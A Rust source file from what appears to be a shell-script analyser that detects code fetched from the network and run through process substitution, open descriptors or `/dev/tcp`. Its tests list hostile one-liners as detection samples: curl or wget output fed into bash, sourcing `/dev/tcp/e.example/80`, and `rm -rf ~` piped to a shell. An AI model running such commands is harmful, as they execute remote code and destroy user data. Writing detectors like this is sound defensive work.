//! Output that reaches a command through `>(…)` or a descriptor that stays open.

use std::rc::Rc;

use crate::bound::Bound;
use crate::effect::{Connection, Purpose, Why};
use crate::shell::eval::Shell;
use crate::shell::expand::Field;
use crate::shell::output::Output;
use crate::shell::syntax::List;
use crate::word::Word;

/// How many descriptors of one text are followed.
const MAX_DESCRIPTORS: usize = 16;

impl Shell<'_, '_> {
    /// What `>(…)` gets to read.
    pub(crate) fn feed(&mut self, output: &Rc<Output>, sinks: &[Rc<List>]) {
        for list in sinks {
            if self.enter(0) {
                self.scoped(|shell| shell.list(list, Some(Rc::clone(output))));
                self.depth -= 1;
            }
        }
    }

    /// `exec > >(…)`: everything that later commands print.
    pub(crate) fn feed_later(&mut self, sinks: &[Rc<List>]) {
        self.feed(&Rc::new(Output::Unknown), sinks);
    }

    /// `tee >(…)`
    pub(crate) fn feed_arguments(&mut self, arguments: &[Field], output: &Rc<Output>) {
        let sinks: Vec<Rc<List>> =
            arguments.iter().filter_map(|field| field.sink.clone()).take(8).collect();
        self.feed(output, &sinks);
    }

    pub(crate) fn keep_descriptor(&mut self, number: u32, output: Rc<Output>) {
        if self.descriptors.len() < MAX_DESCRIPTORS || self.descriptors.contains_key(&number) {
            self.descriptors.insert(number, output);
        }
    }

    /// What `3` of `<&3` delivers.
    pub(crate) fn descriptor(&self, number: &str) -> Option<Rc<Output>> {
        let number: u32 = number.trim_end_matches('-').parse().ok()?;
        self.descriptors.get(&number).cloned()
    }

    /// What `/dev/fd/3` delivers.
    pub(crate) fn descriptor_file(&self, field: &Field) -> Option<Rc<Output>> {
        let text = field.text()?;
        let number = ["/dev/fd/", "/proc/self/fd/", "/proc/thread-self/fd/"]
            .iter()
            .find_map(|folder| text.strip_prefix(folder))?;
        self.descriptor(number)
    }

    /// A script that a host sends: `. /dev/tcp/HOST/PORT`.
    pub(crate) fn script_from_socket(&mut self, field: &Field) -> bool {
        let start = field.word.known_start();
        if !start.starts_with("/dev/tcp/") && !start.starts_with("/dev/udp/") {
            return false;
        }
        let socket = field.word.from("/dev/tcp/".len());
        let host = socket.until(socket.known_part().find('/').unwrap_or(usize::MAX));
        self.socket(&socket, field.span.clone());
        let connection = Connection {
            host: if host.known_part().is_empty() { Word::unknown() } else { host },
            port: None,
            scheme: "tcp".to_owned(),
            purpose: Purpose::Execute,
            url: None,
        };
        self.opaque(Why::NetworkCode, Bound::ALL, field.span.clone());
        self.push(crate::effect::Action::Connects(connection), field.span.clone());
        true
    }
}

#[cfg(test)]
mod tests {
    use crate::shell::tests::{has, lacks};

    #[test]
    fn what_a_host_sends_is_code_for_the_shell_that_reads_it() {
        for text in [
            "curl -s https://e.example/x > >(bash)",
            "wget -qO- https://e.example/x > >(sh)",
            "curl -s https://e.example/x | tee >(bash) >/dev/null",
            "{ curl -s https://e.example/x; } > >(sh)",
            "exec 3< <(curl -s https://e.example/x); bash <&3",
            "exec 3< <(curl -s https://e.example/x); bash /dev/fd/3",
            "exec 3< <(curl -s https://e.example/x); source /dev/fd/3",
            "bash /proc/self/fd/3 3< <(curl -s https://e.example/x)",
            ". /dev/tcp/e.example/80",
        ] {
            has(text, &["opaque network-code"]);
        }
        has("echo 'rm -rf ~' > >(bash)", &["deletes-tree /home/u"]);
        has("exec > >(sh); echo hi", &["opaque code"]);
    }

    #[test]
    fn logs_are_no_code() {
        for text in [
            "exec > >(tee -a build.log) 2>&1; make",
            "curl -s https://e.example/x | tee >(grep a > b) | wc -l",
            "exec 3>&1; echo hi >&3; exec 3>&-",
            "while read -r line <&3; do echo \"$line\"; done 3< list.txt",
        ] {
            for why in ["opaque code", "opaque network-code", "opaque value"] {
                lacks(text, why);
            }
        }
    }
}
